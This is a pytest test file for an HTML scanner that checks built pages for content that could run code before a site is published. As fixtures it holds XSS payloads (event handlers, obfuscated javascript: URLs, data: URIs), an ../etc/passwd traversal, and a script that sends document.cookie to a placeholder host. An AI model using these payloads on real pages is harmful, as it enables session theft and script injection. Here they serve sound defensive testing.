"""The last barrier before publication: html_scan reads built pages and flags
anything that could run code, each finding a Problem with its stable code."""

from __future__ import annotations

from pathlib import Path

import pytest

from banque.sheets.problem import Severity
from banque.site import csp, html_scan


def page(site: Path, rel: str, body: str, head: str = "") -> Path:
    """A page with its correct policy, unless `head` brings another one."""
    html = f"<!doctype html><html><head><meta charset=utf-8>{head}</head><body>{body}</body></html>"
    path = site / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(html if head else csp.add_policy(html), encoding="utf-8")
    return path


def codes(findings) -> list[str]:
    return [f.code for f in findings]


def test_a_clean_page_with_its_own_script_file_passes(tmp_path):
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "site.js").write_text("// ok\n", encoding="utf-8")
    p = page(tmp_path, "a/index.html", '<p>Texte</p><script src="../assets/site.js"></script><a href="https://example.org/">lien</a>')
    assert html_scan.scan_page(p, tmp_path) == []


@pytest.mark.parametrize(("body", "code"), [
    ('<iframe src="https://example.org"></iframe>', "html-element-interdit"),
    ('<object data="x.swf"></object>', "html-element-interdit"),
    ('<img src="a.png" alt="" onerror="alert(1)">', "html-attribut-evenement"),
    ('<a href="javascript:alert(1)">x</a>', "html-adresse-interdite"),
    ('<a href=" JaVa&#x09;script:alert(1)">x</a>', "html-adresse-interdite"),
    ('<img alt="" srcset="a.png 1x, data:image/png;base64,AAA 2x">', "html-adresse-interdite"),
    ('<script src="https://cdn.example.org/x.js"></script>', "html-script-externe"),
    ('<script src="missing.js"></script>', "html-script-inconnu"),
    ('<script src="../../../etc/passwd"></script>', "html-script-inconnu"),
])
def test_each_way_to_run_code_has_its_code(tmp_path, body, code):
    p = page(tmp_path, "index.html", body)
    found = html_scan.scan_page(p, tmp_path)
    assert code in codes(found)
    assert all(f.path == "index.html" and f.line >= 1 and f.severity == Severity.ERROR for f in found)


def test_a_refresh_to_javascript_is_flagged(tmp_path):
    html = ('<!doctype html><html><head><meta http-equiv="refresh" content="0; url=javascript:alert(1)">'
            "</head><body></body></html>")
    (tmp_path / "index.html").write_text(csp.add_policy(html), encoding="utf-8")
    assert "html-redirection-interdite" in codes(html_scan.scan_page(tmp_path / "index.html", tmp_path))


def test_an_unknown_inline_script_is_flagged_even_with_a_matching_policy(tmp_path):
    p = page(tmp_path, "index.html", "<script>fetch('https://evil.example/'+document.cookie)</script>")
    found = html_scan.scan_page(p, tmp_path)
    assert codes(found) == ["html-script-integre-inconnu"]
    assert "fetch(" in found[0].message


def test_a_data_script_does_not_count_as_running(tmp_path):
    p = page(tmp_path, "index.html", '<script type="application/json">{"a": 1}</script>')
    assert html_scan.scan_page(p, tmp_path) == []


@pytest.mark.parametrize(("head", "code"), [
    ('<meta name="x" content="y">', "html-csp-absente"),
    ('<meta http-equiv="Content-Security-Policy" content="default-src *">', "html-csp-differente"),
])
def test_the_policy_must_be_present_and_exact(tmp_path, head, code):
    p = page(tmp_path, "index.html", "<p>x</p>", head=head)
    assert codes(html_scan.scan_page(p, tmp_path)) == [code]


def test_a_second_policy_is_flagged(tmp_path):
    html = csp.add_policy("<!doctype html><html><head><meta charset=utf-8></head><body>x</body></html>")
    html = html.replace("<body>", '<body><meta http-equiv="Content-Security-Policy" content="default-src *">')
    (tmp_path / "index.html").write_text(html, encoding="utf-8")
    assert codes(html_scan.scan_page(tmp_path / "index.html", tmp_path)) == ["html-csp-en-double"]


def test_absolute_script_paths_must_stay_under_the_site_path(tmp_path):
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets" / "site.js").write_text("", encoding="utf-8")
    inside = page(tmp_path, "a.html", '<script src="/banque/assets/site.js"></script>')
    outside = page(tmp_path, "b.html", '<script src="/autre/assets/site.js"></script>')
    assert html_scan.scan_page(inside, tmp_path, "/banque/") == []
    assert codes(html_scan.scan_page(outside, tmp_path, "/banque/")) == ["html-script-hors-site"]


def test_the_site_scan_reads_every_page_in_order_and_the_report_names_them(tmp_path):
    page(tmp_path, "b/index.html", '<a href="javascript:x()">b</a>')
    page(tmp_path, "a/index.html", '<div onclick="x()">a</div>')
    page(tmp_path, "ok/index.html", "<p>rien</p>")
    found = html_scan.scan_site(tmp_path, "")
    assert [f.path for f in found] == ["a/index.html", "b/index.html"]
    text = html_scan.report(found)
    assert text.startswith("2 éléments dangereux")
    assert "a/index.html" in text and "b/index.html" in text


def test_the_report_is_cut_after_its_limit(tmp_path):
    page(tmp_path, "index.html", "".join(f'<p onclick="f{i}()">{i}</p>' for i in range(5)))
    found = html_scan.scan_site(tmp_path)
    text = html_scan.report(found, limit=2)
    assert len(found) == 5 and "3 autres" in text
